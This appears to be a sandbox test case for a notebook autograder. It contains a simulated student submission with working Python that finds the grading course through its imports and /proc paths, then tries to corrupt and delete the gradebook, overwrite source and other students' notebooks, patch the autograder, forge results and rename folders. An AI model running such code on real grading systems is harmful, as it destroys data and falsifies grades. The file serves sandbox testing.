# Attack (item 5, write): finds the course that grades it (above the autograder package it imports, directly and
# through /proc/*/root), then tries to corrupt and delete the gradebook, overwrite the source and release notebooks,
# plant a file in source/, append `raise SystemExit` to the course's autograder/__init__.py, overwrite the other
# students' submissions, forge its own autograded notebook, chmod source/ and rename it, and reports each attempt.
# (It leaves alone any folder holding a .git, so that a failed sandbox cannot damage a developer's checkout.)
# Honest answers: both models correct (6 and 6).
# Expected: exactly 6 and 6, and source/, release/, autograder/, the gradebook and the other students' submissions
# byte for byte as before.
# %% model_answer
import glob
import os
import sys
from pathlib import Path


def _course_roots():
    """The course that grades this notebook: the folders above the autograder package it imports (and
    above course_config, if importable), seen directly and through /proc/<pid>/root."""
    import autograder

    places = [Path(autograder.__file__).resolve().parent]
    try:
        import course_config
        places.append(Path(course_config.ROOT))
    except Exception as error:  # noqa: BLE001
        print("no course_config:", type(error).__name__)
    roots = {parent for place in places for parent in [place, *place.parents]}
    roots |= {Path(proc_root + str(root)) for proc_root in glob.glob("/proc/[0-9]*/root") for root in roots
              if str(root) != "/" and os.path.isdir(proc_root + str(root))}
    return [root for root in roots
            if (os.path.isdir(root / "source") or os.path.exists(root / "gradebook.db"))
            and not os.path.exists(root / ".git")]  # never a developer's checkout, should a sandbox fail


def _attempt(what, action):
    try:
        action()
        print("DONE", what)
    except Exception as error:  # noqa: BLE001
        print("refused", what, type(error).__name__)


def _write(path, data, mode="wb"):
    with open(path, mode) as file:
        file.write(data)


for _root in _course_roots():
    _r = str(_root)
    _attempt(f"corrupt {_r}/gradebook.db", lambda: _write(f"{_r}/gradebook.db", b"not a database", "r+b"))
    _attempt(f"delete {_r}/gradebook.db", lambda: os.remove(f"{_r}/gradebook.db"))
    for _nb in glob.glob(f"{_r}/source/*/*.ipynb") + glob.glob(f"{_r}/release/*/*.ipynb"):
        _attempt(f"overwrite {_nb}", lambda: _write(_nb, b"{}"))
    _attempt(f"plant {_r}/source/planted.txt", lambda: _write(f"{_r}/source/planted.txt", b"planted"))
    _attempt(f"patch {_r}/autograder/__init__.py",
             lambda: _write(f"{_r}/autograder/__init__.py", b"\nraise SystemExit('planted')\n", "ab"))
    for _nb in glob.glob(f"{_r}/submitted/*/*/*.ipynb"):
        if "writes_course_files" not in _nb:
            _attempt(f"overwrite {_nb}", lambda: _write(_nb, b"{}"))
    _forged = f"{_r}/autograded/writes_course_files/02_sequential_model"
    _attempt(f"forge {_forged}", lambda: (os.makedirs(_forged, exist_ok=True),
                                         _write(f"{_forged}/sequential_model.ipynb", b"{}")))
    _attempt(f"chmod {_r}/source", lambda: os.chmod(f"{_r}/source", 0o777))
    _attempt(f"rename {_r}/source", lambda: os.rename(f"{_r}/source", f"{_r}/source_moved"))

model = Sequential()
model.add(Dense(5, activation='relu', input_shape=(3,)))
model.add(Dense(4, activation='relu'))
model.add(Dense(2, activation='sigmoid'))
# %% diagram_model_answer
diagram_model = Sequential()
diagram_model.add(Dense(10, activation='relu', input_shape=(6,)))
diagram_model.add(Dense(8, activation='relu'))
diagram_model.add(Dense(6, activation='relu'))
diagram_model.add(Dense(3, activation='softmax'))
